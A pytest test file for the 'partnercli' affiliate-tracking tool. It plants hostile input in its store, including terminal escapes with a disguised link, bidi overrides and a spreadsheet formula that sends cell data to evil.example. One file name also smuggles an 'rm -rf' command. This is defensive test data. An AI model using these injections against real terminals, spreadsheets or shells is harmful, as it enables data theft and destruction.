"""A store in which every text of somebody else's is planted: people to be kept secret, and marks that would do harm.

Filled by the commands people use, from files as they come. Read it, or copy it.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from contextlib import redirect_stderr, redirect_stdout
from dataclasses import dataclass
from functools import cache
from pathlib import Path
from tempfile import TemporaryDirectory

import pytest

from conftest import TODAY, Desk, Done
from partnercli import main, render
from partnercli.domain.table import Table

PERSON = ("Zlata", "zlata@", "90055501", "secretly", "clickzlata", "Ownerova")
"""What gives the planted person away, in any spelling of name, e-mail, phone, notes, click and owner."""

HARM = (
    "\x1b[2J\x1b]8;;http://evil.example\x07link\x1b]8;;\x1b\\"  # escapes, and a link that shows another text
    "\x9b31m\u202eabc\u2066\u200b\u200f\ufeff"  # the same in one byte; bidi overrides and isolates; characters without a width
    "[red]x[/red] [/x] :smile: <b>&amp; `*_|"
)
"""What may steer a terminal, or mean something to whoever draws the text."""

LEAD = {
    "name": f"Zlata {HARM}", "email": "zlata@example.org", "phone": "+7 900 555-01-23", "click": f"clickzlata{HARM}",
    "owner": f"Ownerova {HARM}",
}  # fmt: skip
BANK = {
    "TransferWise ID": f"T1{HARM}", "Date": "03-10-2026", "Amount": "40", "Currency": "RUB", "Description": f"secretly {HARM}",
    "Payment Reference": f"secretly {HARM}", "Running Balance": "40", "Payer Name": f"Zlata {HARM}", "Payee Name": "",
}  # fmt: skip
FORMULA = '=HYPERLINK("http://evil.example/"&A1)'


@dataclass(frozen=True, slots=True)
class Shown(Done):
    """A finished command, and the tables it gave to be written."""

    tables: list[Table]


def table(*rows: dict[str, str]) -> str:
    """The rows as CSV, under all their names."""
    names = list(dict.fromkeys(name for row in rows for name in row))
    text = io.StringIO()
    writer = csv.DictWriter(text, names, restval="", lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    return text.getvalue()


def filled(desk: Desk) -> Desk:
    """The store of the desk with one lead of every status, rows, payouts, bank lines, spend, decisions and refusals."""
    nasty = f"a\n{HARM[:9]}'\"; rm -rf.csv"
    row = {"date": "2026-09-02", "program": "shop", "status": "approved", "currency": "RUB", "reason": f"secretly {HARM}"}
    who = {"click": LEAD["click"], "name": LEAD["name"], "email": LEAD["email"], "phone": LEAD["phone"]}
    lead = {"program": "shop", "date": "2026-09-01", "channel": "tg", **who, "owner": LEAD["owner"], "note": f"secretly {HARM}"}
    files = {
        "leads.csv": table(
            {**lead, "id": "a", "status": "customer", "order": f"{HARM}1", "amount": "1000"},
            {**lead, "id": "b", "email": "zlata@b.example", "phone": "+79005550124", "status": "refused", "reason": f"secretly {HARM}"},
            {**lead, "id": "c", "email": "zlata@c.example", "phone": "+79005550125", "name": FORMULA, "status": "in_work"},
            {**lead, "id": "d", "email": "zlata@d.example", "phone": "+79005550126", "status": "customer", "order": "missing-1", "amount": "5"},
            {**lead, "id": "e", "status": "no such status"},
        ),
        nasty: table(
            {**row, **who, "transaction": f"{HARM}t1", "order": f"{HARM}1", "amount": "1000", "commission": "90"},
            {**row, **who, "transaction": "t2", "order": "nobody's", "amount": "-5", "commission": "5"},
            {**row, **who, "transaction": "t3", "order": "x", "status": f"odd {HARM}", "commission": "5"},
            {**row, **who, "transaction": "t4", "order": "x", "program": f"unheard of {HARM}", "commission": "5"},
            {**row, **who, "transaction": "t5", "order": "x", "commission": f"1e999999999{HARM}"},
        ),
        "payouts.csv": table(
            {"ID": "1", "Date": "2026-10-02", "Program": "shop", "Amount": "50", "Currency": "RUB", "Reference": f"secretly {HARM}"}
        ),
        "bank.csv": table(BANK, {**BANK, "TransferWise ID": f"T2{HARM}", "Amount": "777"}),
        "spend.csv": table({"Date": "2026-09-01", "UTMSource": HARM, "UTMCampaign": HARM, "Expenses": "15", "Currency": "RUB"}),
    }  # fmt: skip
    for name, text in files.items():
        (desk.folder / name).write_text(text, encoding="utf-8")
    desk.fact("-q", "init")
    desk.fact("-q", "program", "add", "shop", "--network", "direct", "--rate", "10%", "--name", f"Shop {HARM}", "--account", f"Zlata {HARM}",
              "--contact", "zlata@manager.example")  # fmt: skip
    desk.fact("-q", "channel", "add", "tg", "--name", f"Telegram {HARM}", "--utm-source", HARM)
    for file in ("leads.csv", nasty, "payouts.csv", "bank.csv", "spend.csv"):
        assert desk("import", file).code == 0, desk("import", file)
    desk.fact("-q", "lead", "note", "L1", f"secretly {FORMULA} {HARM}")
    desk.fact("-q", "lead", "edit", "L1", "--name", f"Zlata {FORMULA}", "--owner", f"Ownerova {HARM}")
    desk.fact("-q", "reconcile")
    desk.fact("-q", "accept", "UNDERPAID-S1", "--reason", f"secretly {HARM}")
    desk.fact("-q", "close", "2026-09")
    desk.fact("-q", "reopen", "2026-09", "--reason", f"secretly {HARM}")
    return desk


@cache
def _planted() -> tuple[Path, TemporaryDirectory[str]]:
    """The filled desk, and its folder, which goes when the tests end."""
    folder = TemporaryDirectory(prefix="partnercli-hostile-")
    return filled(Desk(Path(folder.name))).folder, folder


@pytest.fixture
def planted(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Callable[..., Shown]:
    """Run a command line in this process on the filled store, without a user's configuration."""
    desk, _folder = _planted()
    ours = {"PARTNERCLI_DB": str(desk / "store.duckdb"), "PARTNERCLI_TODAY": TODAY, "XDG_CONFIG_HOME": str(tmp_path)}
    for name, value in ours.items():
        monkeypatch.setenv(name, value)
    monkeypatch.chdir(desk)
    tables: list[Table] = []
    show = render.show
    monkeypatch.setattr(render, "show", lambda table, *rest, **named: tables.append(table) or show(table, *rest, **named))

    def run(*words: str) -> Shown:
        tables.clear()
        out, err = io.TextIOWrapper(io.BytesIO(), encoding="utf-8"), io.StringIO()
        with redirect_stdout(out), redirect_stderr(err):
            code = main.run(words)
        out.seek(0)
        return Shown(code, out.read(), err.getvalue(), list(tables))

    return run


TOUR = (
    "lead list", "lead list --find Zlata", "lead show L1", "lead show L2", "lead show L4", "sale list", "sale show S1",
    "payout list", "payout show P1", "imports list", "imports show I3", "imports show I4", "program list", "program show shop",
    "program terms shop", "program expect shop --amount 100", "program tolerance", "channel list", "reconcile --dry-run",
    "reconcile --dry-run --json", "explain S1", "explain R1", "explain R2", "explain P1", "explain B1", "explain L1",
    "explain I3", "findings list", "findings show UNDERPAID-S1", "findings codes", "decisions", "closes", "rates list",
    "log", "log I3", "lead export L1",
    "report", "report income", "report income --by account", "report channels", "report changes", "report chain",
    "report delays", "report due --period 365d", "report missing", "report movements", "report payments", "report receipts",
    "report lines", "report spend", "network list", "network show leads", "check", "import leads.csv --again --dry-run",
    "import leads.csv --again --dry-run --json", "lead import leads.csv --dry-run",
    "network learn leads.csv --name seen --status 'no such status=ignore' --currency RUB --dry-run --yes",
)  # fmt: skip
"""Every command that lists, on records that are there."""
